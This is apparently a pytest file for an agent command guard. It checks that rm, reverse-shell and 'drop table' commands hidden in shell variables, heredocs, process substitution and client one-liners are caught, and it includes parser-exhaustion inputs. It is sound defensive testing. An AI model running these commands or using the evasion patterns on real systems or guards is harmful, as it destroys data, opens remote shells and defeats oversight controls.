# ruff: noqa: E501 - tables of spellings read best when they are dense
"""Variables that shell text itself sets: their values are read where they are used, and others are not guessed."""

from __future__ import annotations

import pytest

from memkit.runtime.guard.core import Guard
from memkit.runtime.guard.shell import read_shell
from memkit.runtime.guard.shell_words import ShellValues, ShellWord, literal


def guard(condition: object) -> Guard:
    """Return a guard with one hard policy on the command of the shell tool."""
    match = {"tool": "bash", "args.command": condition}
    return Guard(
        [{"name": "p", "description": "d", "rule": "r", "enforcement": "hard", "effect": "ask", "match": match}]
    )


RM = guard({"shell": {"program": "rm"}})
FORCED = guard({"shell": {"program": "rm", "flags": {"all_of": ["-r", "-f"]}}})
SQL = guard({"sql": {"statement": ["drop", "delete"]}})
IN_ETC = guard({"shell": {"program": "rm", "args": ["/etc/*"]}})

QUOTED = [
    "C='ls; rm x'; bash -c \"$C\"", "C='ls; rm x'; sh -c \"${C}\"", "C='ls; rm x'; su -c \"$C\"", "C='ls; rm x'; trap \"$C\" EXIT",
    "C='ls; rm x'; timeout 5 bash -c \"$C\"", "C='ls; rm x'; find . -exec sh -c \"$C\" \\;", "C='ls; rm x'; bash -c \"set -e; $C\"",
    "C='ls; rm x'; D=$C; sh -c \"$D\"", "C=ls; C+='; rm x'; bash -c \"$C\"", "C=ls; C=\"$C; rm x\"; bash -c \"$C\"",
    "C='ls; rm x'; sh <<< \"$C\"", "C='ls; rm x'; sh <<E\n$C\nE", "if a; then C=ls; else C='ls; rm x'; fi; bash -c \"$C\"",
]  # fmt: skip
UNKNOWN = [
    "C=ls; C=$X; bash -c \"$C\"", "C=ls; read C; bash -c \"$C\"", "C=ls; for C in a b; do bash -c \"$C\"; done", "C=ls; C[0]=$X; bash -c \"$C\"",
    "C=ls; printf -v C '%s' \"$Y\"; bash -c \"$C\"", "C=ls; mapfile C; bash -c \"$C\"", "C=ls; local C=$1; sh -c \"$C\"", "C=ls bash -c \"$C\"",
    "C=ls; unset C; C=`cat f`; sh -c \"$C\"",
]  # fmt: skip
READ_BY_A_SHELL = [
    "echo 'rm x' > >(sh)", "tee >(sh) <<< 'rm x'", "tee >(bash) < f", "exec 3<a; sh <&3", "bash -i >& /dev/tcp/a/1 0>&1", "bash 0<&3", "bash <> /dev/tcp/a/1",
]  # fmt: skip


@pytest.mark.parametrize("command", [*QUOTED, *UNKNOWN, *READ_BY_A_SHELL])
def test_what_a_shell_is_given_to_run_is_read_or_unknown(command: str) -> None:
    """A quoted variable stands for the whole of its value, and for one that nobody can know where that may be it."""
    assert RM.decide("bash", {"command": command}, {}).decision == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "C='ls; pwd'; bash -c \"$C\"", 'C=ls; bash -c "$C -l"', "N='rm x'; echo \"$N\"", "N='rm x'; git commit -m \"$N\"", 'N="fix: rm"; echo "$N" > f; cat f',
        "sh 2>&1 -c ls", "ls <&-", "echo a > >(cat)",
    ],
)  # fmt: skip
def test_a_value_that_runs_nothing_forbidden_passes(command: str) -> None:
    """Known values are as good as if they had been written out, and text that only prints runs nothing."""
    assert RM.decide("bash", {"command": command}, {}).decision == "allow"


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("F='-r -f'; rm $F x", "ask"), ("F='-r -f'; rm \"$F\" x", "allow"), ("F=-rf; rm \"$F\" x", "ask"), ("F=-r; G=-f; rm $F $G x", "ask"),
        ("F=-r; rm $F x", "allow"), ("F=-r; F=$X; rm $F x", "ask"),
    ],
)  # fmt: skip
def test_a_value_is_split_where_the_shell_splits_it(command: str, expected: str) -> None:
    """An unquoted variable may stand for several words, a quoted one is one word."""
    assert FORCED.decide("bash", {"command": command}, {}).decision == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('F=/etc; rm "$F/x"', "ask"), ('F=/srv; rm "$F/x"', "allow"), ('F=/srv; rm "$F/$G"', "allow"), ('F=/etc; rm "$F/$G"', "ask"),
        ("find /etc -exec rm {} \\;", "ask"), ("find /srv -exec rm {} \\;", "allow"), ("find . -exec rm {} +", "allow"), ("find \"$D\" -exec rm {} +", "ask"),
        ("find /etc -execdir rm {} +", "ask"), ("find /srv -execdir rm {} +", "allow"), ("fd -x rm {}", "ask"), ("find /srv /etc -exec rm {} +", "ask"),
    ],
)  # fmt: skip
def test_a_path_is_known_as_far_as_it_is_written(command: str, expected: str) -> None:
    """A variable in a path, and a file that is found, are matched by what is certain of them."""
    assert IN_ETC.decide("bash", {"command": command}, {}).decision == expected


STATEMENTS = [
    "Q='drop table x'; psql -c \"$Q\"", "export Q='drop table x'; psql -c \"$Q\"", "Q='drop table x'; mysql -e \"$Q\" db", "Q='drop table x'; echo \"$Q\" | psql",
    "Q='drop table x'; psql <<< \"$Q\"", "Q='drop table x'; psql <<E\n$Q\nE", "Q='drop table x'; sqlite3 a.db \"$Q\"", "Q='drop table x'; psql --command=\"$Q\"",
    "Q='drop table x'; psql -c\"$Q\"", "Q='drop table x'; psql -c \"begin; $Q; commit\"", "psql --command=\"$Q\"", "psql --command \"$Q\"", "psql -c\"$Q\"",
    "psql -c \"begin; $Q\"", "mysql -e\"$Q\"", "psql <<E\n$Q\nE", "psql <<< \"$Q\"", "echo \"$Q\" | psql", "Q='select 1'; Q=$X; psql -c \"$Q\"",
    "echo 'drop table x' > q.sql; psql < q.sql", "echo 'drop table x' > q; psql -f q", "printf 'drop table x' > q.sql; sqlite3 a.db '.read q.sql'",
    "php -r '$pdo->exec(\"drop table x\");'", "ruby -e 'conn.exec(\"drop table x\")'", "node -e \"db.exec('drop table x')\"", "node -e \"knex.raw('drop table x')\"",
    "node -e \"db.prepare('delete from x').run()\"", "perl -MDBI -e '$d->do(\"drop table x\")'",
]  # fmt: skip


@pytest.mark.parametrize("command", STATEMENTS)
def test_a_statement_is_seen_wherever_a_client_gets_it_from(command: str) -> None:
    """Values, texts, files that the command itself wrote, and code are read; a statement made at run time is unknown."""
    assert SQL.decide("bash", {"command": command}, {}).decision == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "Q='select 1'; psql -c \"$Q\"", "T=x; psql -c \"select * from $T\"", "psql \"$URL\" -c 'select 1'", "mysql -h$H -u$U -p$P -e 'select 1'", "psql --dbname=\"$D\" -l",
        "cat \"$F\" | psql", "echo \"$PW\" | psql -W -c 'select 1'", "echo 'drop table x' > notes.txt; cat notes.txt", "sqlite3 \"$DB\" .tables",
    ],
)  # fmt: skip
def test_a_client_that_is_told_where_to_connect_passes(command: str) -> None:
    """What a client is given besides its statement is no statement."""
    assert SQL.decide("bash", {"command": command}, {}).decision == "allow"


def test_values_that_double_end_in_one_that_is_unknown() -> None:
    """Each variable holds the one before twice; the values stay short, and the text that they would make is unknown."""
    command = "V0=xx; " + "; ".join(f'V{i}="$V{i - 1}$V{i - 1}"' for i in range(1, 60)) + '; sh -c "$V59"'

    assert RM.decide("bash", {"command": command}, {}).decision == "ask"


def test_no_more_text_is_made_of_values_than_a_limit() -> None:
    """Where a long value is used very often, its last uses are left as they are written, which is unknown."""
    values = ShellValues()
    values.readings([literal("V=" + "x" * 5_000)])
    made = [values.readings([literal("echo"), ShellWord("$V", 0)])[0][1] for _ in range(1_000)]

    assert made[0].certain and not made[-1].certain
    assert sum(len(word.text) for word in made) < 500_000


@pytest.mark.parametrize("text", ["tee " + ">(sh) " * 4_000, "runcon " * 4_000])
def test_what_many_commands_share_is_read_within_a_limit(text: str) -> None:
    """Commands that read the same long input, or start each other at every word, hold no more words than a limit."""
    view = read_shell(text)

    assert sum(len(command.words) + len(command.inputs) for command in view.commands) < 2_000_000
    assert view.doubts
